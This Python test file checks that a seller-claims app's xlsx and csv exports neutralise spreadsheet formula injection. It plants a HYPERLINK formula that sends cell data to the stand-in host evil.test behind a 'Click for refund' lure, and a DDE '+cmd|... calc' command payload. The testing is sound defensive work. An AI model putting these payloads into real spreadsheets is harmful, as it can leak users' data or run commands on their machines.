"""Reports carrying spreadsheet formulas in titles and SKUs: every export opens in Excel or WPS as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from claimpilot.tools.cells import FORMULA_START, safe_cell

TITLE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for refund")'
SKU_COLUMNS = {"msku", "sku", "sellersku"}
TITLE_COLUMNS = {"title", "product-name"}


def planted_sku(sku: str) -> str:
    return f"@{sku}" if sum(map(ord, sku)) % 2 else f"={sku}"


def _plant(path) -> None:
    """Every SKU becomes a formula-looking text (the same in every report), every title a HYPERLINK formula."""
    text = path.read_text(encoding="utf-8-sig")
    dialect = "excel-tab" if "\t" in text.splitlines()[0] else "excel"
    rows = list(csv.reader(io.StringIO(text), dialect=dialect))
    header = [h.strip().lower() for h in rows[0]]
    for row in rows[1:]:
        for i, name in enumerate(header):
            if i < len(row) and row[i] and name in SKU_COLUMNS:
                row[i] = planted_sku(row[i])
            elif i < len(row) and name in TITLE_COLUMNS:
                row[i] = TITLE
    out = io.StringIO()
    writer = csv.writer(out, dialect=dialect, lineterminator="\r\n",
                        quoting=csv.QUOTE_NONE if dialect == "excel-tab" else csv.QUOTE_MINIMAL,
                        escapechar=None if dialect == "excel" else "\\")
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def planted_files(tmp_path_factory):
    from claimpilot.sandbox.demo_seller import generate

    folder = tmp_path_factory.mktemp("planted")
    paths = generate(seed=11, as_of=date.today(), skus=80).write(folder)
    for p in paths:
        _plant(p)
    return paths


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START) and safe_cell(value) != value


def _check_xlsx(data: bytes, where: str) -> list[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{where}: formula cells"
    assert not [c.value for c in cells if _dangerous(c.value)], where
    return [str(c.value) for c in cells if c.value is not None]


def _check_csv(text: str, where: str) -> list[str]:
    cells = [v for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for v in row]
    assert not [v for v in cells if _dangerous(v)], where
    return cells


def test_no_exported_cell_is_a_formula(client, alice, planted_files):
    parts = [("files", (p.name, p.read_bytes())) for p in planted_files]
    assert client.post("/api/sellers/acme/reports", headers=alice.headers, files=parts).status_code == 200
    audit = client.post("/api/sellers/acme/audit", headers=alice.headers, json={}).json()
    assert audit["findings"] > 0

    seen: list[str] = []
    r = client.get("/api/sellers/acme/claims/export?format=xlsx", headers=alice.headers)
    seen += _check_xlsx(r.content, "claims export xlsx")
    r = client.get("/api/sellers/acme/claims/export?format=csv", headers=alice.headers)
    seen += _check_csv(r.content.decode("utf-8-sig"), "claims export csv")

    r = client.post("/api/sellers/acme/cases/export", headers=alice.headers)
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        seen += _check_xlsx(zf.read("claims.xlsx"), "claims.xlsx")
        seen += _check_csv(zf.read("claims.csv").decode("utf-8-sig"), "claims.csv")
        evidence = [n for n in zf.namelist() if n.endswith("/evidence.csv")]
        assert evidence
        for name in evidence:
            seen += _check_csv(zf.read(name).decode("utf-8-sig"), name)
    # what was planted is still there, to read, as text
    assert "'" + TITLE in seen
    assert any(v.startswith("'=") for v in seen if v != "'" + TITLE)  # an SKU planted as =SKU
    assert any(v.startswith("'@") for v in seen)


def test_numbers_stay_numbers_and_every_formula_start_is_escaped():
    assert [safe_cell(v) for v in ("-3", "+1.50", "-1,234.5", -2, 3.5, "SKU-1", "")] == \
        ["-3", "+1.50", "-1,234.5", -2, 3.5, "SKU-1", ""]
    assert [safe_cell(v) for v in ("=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-")] == \
        ["'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "'\r=1", "'-"]
